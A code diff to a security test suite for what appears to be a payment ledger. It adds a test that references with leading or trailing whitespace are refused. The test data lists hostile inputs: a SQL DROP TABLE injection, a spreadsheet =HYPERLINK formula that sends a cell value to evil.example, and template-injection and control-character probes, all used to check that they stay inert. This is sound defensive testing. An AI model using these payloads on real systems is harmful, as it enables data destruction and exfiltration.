@@ -342,6 +342,20 @@ describe('faults: security', function () {
     let fake: FakePartner;
     let dir: string;
 
+    /**
+     * Whitespace at an edge is never part of an identifier in a partner's report (src/shared/identifierText.ts:
+     * PayPal pads quoted fields), so such a reference could never be matched: the ledger refuses it.
+     */
+    const EDGE_WHITESPACE = [
+      '  padded both sides  ',
+      '\ttab-first',
+      '\rcr-first',
+      'line-separator-last\u2029',
+      '\u00a0no-break-first',
+      'newline-last\n',
+      ' ',
+    ];
+
     /** SQL fragments, control characters, formulas, markup, padding: all are data and must stay data. */
     const HOSTILE = [
       "'; DROP TABLE intents; --",
@@ -357,14 +371,12 @@ describe('faults: security', function () {
       '\u001b[31mred\u001b[0m\u0007bell',
       'del\u007fchar\u0008bs',
       '\u202eexe.txt',
-      'line\u2028separator\u2029',
-      '  padded both sides  ',
+      'line\u2028separator\u2029inside',
+      'inner  double  spaces',
       '=HYPERLINK("http://evil.example/?x="&A1,"x")',
       '+SUM(1)',
       '-1+1',
       '@cmd',
-      '\ttab-first',
-      '\rcr-first',
       'emoji 💸 and é ç ã',
       // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, literally
       '%s%n%x {{7*7}} ${7*7}',
@@ -405,6 +417,25 @@ describe('faults: security', function () {
         expect(called).to.equal(false);
       }
       expect((await sql.query("SELECT 1 FROM intents WHERE partner = 'hostile-nul'")).rowCount).to.equal(0);
+    });
+
+    it('refuses a reference beginning or ending with whitespace before writing anything (reports are read trimmed)', async () => {
+      for (const reference of EDGE_WHITESPACE) {
+        let called = false;
+        const error = await ledger
+          .run({ ...spec('hostile-edge', 'edge-ok'), reference }, async () => {
+            called = true;
+            return {};
+          })
+          .then(
+            () => null,
+            (e: unknown) => e,
+          );
+        expect(error, JSON.stringify(reference)).to.be.instanceOf(TypeError);
+        expect((error as Error).message).to.match(/must not be blank nor begin or end with whitespace/);
+        expect(called).to.equal(false);
+      }
+      expect((await sql.query("SELECT 1 FROM intents WHERE partner = 'hostile-edge'")).rowCount).to.equal(0);
     });
 
     it('CSV: every hostile reference matches its own intent; keys, references, partner references and discrepancies come back unchanged; CSV export neutralises formulas, JSON does not', async () => {
@@ -521,11 +552,12 @@ describe('faults: security', function () {
           expect(stored.reference).to.match(/^[=+\-@\t\r]/);
         }
       }
-      // =HYPERLINK, +SUM, -1+1, @cmd, \t..., \r...: each as an amount_mismatch and as an orphan.
-      expect(neutralised).to.equal(12);
+      // =HYPERLINK, +SUM, -1+1, @cmd: each as an amount_mismatch and as an orphan. (A tab or CR first is no
+      // reference the ledger takes; test/discrepancies/spreadsheetSafety.test.ts neutralises those.)
+      expect(neutralised).to.equal(8);
     });
 
-    it('API listing and lookup: hostile references in partner JSON match their intents, whitespace-edged ones too (lookup URL-encodes them)', async () => {
+    it('API listing and lookup: hostile references in partner JSON match their intents, inner line breaks and spaces too (lookup URL-encodes them)', async () => {
       const now = await dbNow(sql);
       fake.seed(
         HOSTILE.map((hostile, i) => ({
@@ -567,8 +599,7 @@ describe('faults: security', function () {
           [partner],
         );
         const byReference = new Map(statuses.rows.map((row) => [row.reference, row]));
-        // References the API reader trims (readIdentifier: `value.trim()`), JSON strings though they are.
-        // References with edge whitespace or line terminators are echoed back exactly by the partner and
+        // References with line terminators, tabs and markup inside are echoed back exactly by the partner and
         // kept exactly by the API reader, so every one of them matches its intent in both modes.
         for (const [i, hostile] of HOSTILE.entries()) {
           const what = `${mode} ${JSON.stringify(hostile)}`;
